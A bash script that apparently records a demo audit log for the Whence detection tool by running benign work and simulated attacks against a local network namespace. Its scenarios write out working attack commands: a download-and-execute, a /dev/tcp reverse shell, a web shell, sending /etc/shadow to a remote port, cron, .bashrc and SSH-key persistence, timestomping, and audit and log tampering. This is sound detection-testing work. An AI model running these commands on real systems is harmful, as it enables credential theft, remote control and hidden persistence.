#!/usr/bin/env bash
# Records the demo's Linux audit log on this machine with the real kernel audit and auditd.
#
#   sudo recordings/record-demo.sh OUT.log
#
# What it does: saves the host's audit settings; starts auditd with a private configuration that writes
# raw ENRICHED records to a temporary log (each line prefixed node=whence-demo); installs the rules of
# audit-rules.sh tagged with a key; runs benign work and attack-like scenarios against a "remote" host
# that is a network namespace of this machine joined by a veth pair (10.203.0.0/24: no traffic leaves
# the machine); then removes its rules by key, restores the saved settings, stops auditd, and writes
# the log to OUT.log with the namespace's processes attributed to a second host, whence-remote
# (split-netns-host.py), so the recording replays as two watched hosts.
# With AUDIT_RECORDER=whence the log is recorded by Whence's own collector (`whence record`, netlink
# mode) instead of auditd. Every scenario starts with an exec of `/bin/true whence-scenario NAME` so the log
# shows where each begins. The restore runs on any exit (trap), also when a scenario fails.
set -uo pipefail
out=${1:?usage: record-demo.sh OUT.log}

source "$(dirname "$0")/audit-session.sh"
key=whence-demo
work=$(mktemp -d /tmp/whence-record.XXXXXX)
mkdir -p "$work/www"
ns=whence-remote
had_ssh_dir=$([ -d /root/.ssh ] && echo yes)
had_cron=$(pgrep -x cron >/dev/null && echo yes)

cleanup() {
  ip netns pids "$ns" 2>/dev/null | xargs -r kill 2>/dev/null
  ip netns del "$ns" 2>/dev/null
  ip link del veth-wh0 2>/dev/null
  rm -f /etc/cron.d/whence-demo /etc/systemd/system/whence-demo.service /usr/local/bin/whence-demo-tool
  rm -f /etc/audit/whence-demo-tamper.rules
  [ -f "$work/bashrc.bak" ] && cp "$work/bashrc.bak" /root/.bashrc
  if [ -f "$work/authorized_keys.bak" ]; then cp "$work/authorized_keys.bak" /root/.ssh/authorized_keys
  else rm -f /root/.ssh/authorized_keys; fi
  [ -z "$had_ssh_dir" ] && rmdir /root/.ssh 2>/dev/null
  if command -v crontab >/dev/null; then
    if [ -f "$work/crontab.bak" ]; then crontab "$work/crontab.bak"; else crontab -r 2>/dev/null; fi
  fi
  rm -f /var/log/whence-demo-app.log*
}
finish() {
  audit_session_stop
  # One kernel audits both "hosts": attribute the namespace's processes to whence-remote.
  [ -f "$work/audit.log" ] && python3 "$(dirname "$0")/split-netns-host.py" \
    "$work/audit.log" "$out" "$ns" whence-remote "$work/remote-pids.txt"
  rm -rf "$work"
}
AUDIT_SESSION_CLEANUP=cleanup

# The "remote" host: a network namespace with a veth pair.
ip netns add "$ns"
ip link add veth-wh0 type veth peer name veth-wh1
ip link set veth-wh1 netns "$ns"
ip addr add 10.203.0.1/24 dev veth-wh0 && ip link set veth-wh0 up
ip netns exec "$ns" ip addr add 10.203.0.2/24 dev veth-wh1
ip netns exec "$ns" ip link set veth-wh1 up
ip netns exec "$ns" ip link set lo up

printf '#!/bin/sh\nid\nuname -n\n' > "$work/www/payload.sh"
cp /bin/echo "$work/www/tool"
# socketserver.TCPServer, not http.server.HTTPServer: the latter resolves its own name through DNS.
(cd "$work/www" && exec ip netns exec "$ns" python3 -c 'import http.server as h, socketserver as s
s.TCPServer.allow_reuse_address = True
s.TCPServer(("10.203.0.2", 8000), h.SimpleHTTPRequestHandler).serve_forever()') >/dev/null 2>&1 &
ip netns exec "$ns" python3 - <<'PY' >/dev/null 2>&1 &
import socket, threading
def reverse_listener():
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("10.203.0.2", 4444)); s.listen(1)
    c, _ = s.accept(); c.sendall(b"id\nexit\n")
    while c.recv(4096): pass
def sink(port):
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("10.203.0.2", port)); s.listen(1)
    c, _ = s.accept()
    while c.recv(4096): pass
t = [threading.Thread(target=reverse_listener)] + [threading.Thread(target=sink, args=(p,)) for p in (9001, 9002)]
[x.start() for x in t]; [x.join(timeout=60) for x in t]
PY
sleep 1

ip netns pids "$ns" > "$work/remote-pids.txt"
audit_session_start "$key" whence-demo "$work/audit.log"
trap finish EXIT

scenario() { /bin/true whence-scenario "$1"; }

scenario benign-shell
ls /etc > /dev/null; grep -c root /etc/passwd > /dev/null; uname -a > /dev/null
mkdir -p /tmp/whence-work && echo draft > /tmp/whence-work/notes.txt
mv /tmp/whence-work/notes.txt /tmp/whence-work/notes.md && rm -rf /tmp/whence-work
scenario benign-packages
dpkg -l > /dev/null; apt-cache policy bash > /dev/null
scenario benign-compile
printf '#include <stdio.h>\nint main(void){puts("hello");return 0;}\n' > /tmp/whence-hello.c
gcc -o /tmp/whence-hello /tmp/whence-hello.c && /tmp/whence-hello > /dev/null; rm -f /tmp/whence-hello /tmp/whence-hello.c

# Benign look-alikes of the attack scenarios below: none of them may raise an alert.
scenario benign-package-install
# A package manager downloading packages and running their maintainer scripts (cron and logrotate
# are used by the next scenarios; when both are installed already, jq is reinstalled instead).
if command -v crontab >/dev/null && command -v logrotate >/dev/null; then
  DEBIAN_FRONTEND=noninteractive apt-get install -y -q --reinstall jq >/dev/null 2>&1
else
  DEBIAN_FRONTEND=noninteractive apt-get install -y -q cron logrotate >/dev/null 2>&1
fi
pgrep -x cron >/dev/null && [ -z "$had_cron" ] && pkill -x cron
scenario benign-crontab-edit
if command -v crontab >/dev/null; then
  crontab -l > "$work/crontab.bak" 2>/dev/null || rm -f "$work/crontab.bak"
  printf '$a\n17 3 * * * /usr/bin/true nightly\n.\nw\nq\n' | EDITOR=/usr/bin/ed crontab -e >/dev/null 2>&1
fi
scenario benign-logrotate
if command -v logrotate >/dev/null; then
  # rotate 0: logrotate itself deletes the rotated logs, nothing is left behind.
  printf '/var/log/whence-demo-app.log {\n  rotate 0\n  missingok\n}\n' > "$work/logrotate.conf"
  for i in 1 2 3; do echo "request $i" >> /var/log/whence-demo-app.log; logrotate -f -s "$work/logrotate.state" "$work/logrotate.conf"; done
fi
scenario benign-login-shell
su - nobody -s /bin/bash -c 'ls / > /dev/null'

scenario download-execute
curl -s http://10.203.0.2:8000/payload.sh -o /tmp/.update.sh && chmod +x /tmp/.update.sh && /tmp/.update.sh > /dev/null
rm -f /tmp/.update.sh

scenario reverse-shell
timeout 5 bash -c 'bash -i >& /dev/tcp/10.203.0.2/4444 0>&1' 2>/dev/null

scenario web-shell
python3 - <<'PY' >/dev/null 2>&1 &
import http.server, socketserver, subprocess
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        out = subprocess.run(["/bin/sh", "-c", "id; cat /etc/hostname"], capture_output=True).stdout
        self.send_response(200); self.end_headers(); self.wfile.write(out)
socketserver.TCPServer.allow_reuse_address = True
s = socketserver.TCPServer(("10.203.0.1", 8081), H); s.handle_request()
PY
sleep 1
ip netns exec "$ns" curl -s http://10.203.0.1:8081/ > /dev/null
wait $! 2>/dev/null

scenario credential-exfiltration
timeout 5 bash -c 'cat /etc/shadow > /dev/tcp/10.203.0.2/9001'

scenario persistence
echo '*/5 * * * * root /tmp/.update.sh' > /etc/cron.d/whence-demo
cp /root/.bashrc "$work/bashrc.bak" 2>/dev/null && echo 'curl -s http://10.203.0.2:8000/payload.sh | sh' >> /root/.bashrc
mkdir -p /root/.ssh && { [ -f /root/.ssh/authorized_keys ] && cp /root/.ssh/authorized_keys "$work/authorized_keys.bak"; true; }
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDemoDemoDemoDemoDemoDemoDemoDemoDemoDemo attacker@remote' >> /root/.ssh/authorized_keys
printf '[Service]\nExecStart=/tmp/.update.sh\n' > /etc/systemd/system/whence-demo.service

scenario network-binary-install
curl -s http://10.203.0.2:8000/tool -o /tmp/tool && cp /tmp/tool /usr/local/bin/whence-demo-tool && chmod 755 /usr/local/bin/whence-demo-tool
scenario timestomp
touch -d '2019-03-04 05:06:07' /usr/local/bin/whence-demo-tool
rm -f /tmp/tool

scenario exec-from-shm
cp /bin/echo /dev/shm/.e && /dev/shm/.e hi > /dev/null; rm -f /dev/shm/.e

scenario module-load
python3 -c 'import ctypes,os; fd=os.open("/dev/null",os.O_RDONLY); ctypes.CDLL(None,use_errno=True).syscall(313,fd,b"",0)'

scenario ptrace
sleep 30 & victim=$!
timeout 2 strace -p "$victim" -e trace=none > /dev/null 2>&1
kill "$victim"

scenario audit-tamper
auditctl -a always,exit -F arch=b64 -S chmod -k "$key-tamper" >/dev/null
auditctl -d always,exit -F arch=b64 -S chmod -k "$key-tamper" >/dev/null

scenario log-deletion
echo 'Nov 27 sshd[1]: session opened' > /var/log/whence-demo.log && rm -f /var/log/whence-demo.log
mkdir -p /tmp/whence-home && HOME=/tmp/whence-home bash -c 'echo ls > ~/.bash_history; rm -f ~/.bash_history'
rm -rf /tmp/whence-home

scenario privilege-drop
setpriv --reuid=65534 --regid=65534 --clear-groups /usr/bin/id > /dev/null

scenario audit-log-tamper
if [ -d /etc/audit ]; then
  echo '-a never,exit -F arch=b64 -S execve' > /etc/audit/whence-demo-tamper.rules && rm -f /etc/audit/whence-demo-tamper.rules
fi

scenario credential-read-then-send
python3 -c 'import socket; d = open("/etc/shadow", "rb").read(); s = socket.create_connection(("10.203.0.2", 9002)); s.sendall(d); s.close()'

scenario privilege-gain
python3 -c 'import os; os.setresuid(65534, 65534, 0); os.setresuid(0, 0, 0)'

scenario end
sleep 3
exit 0
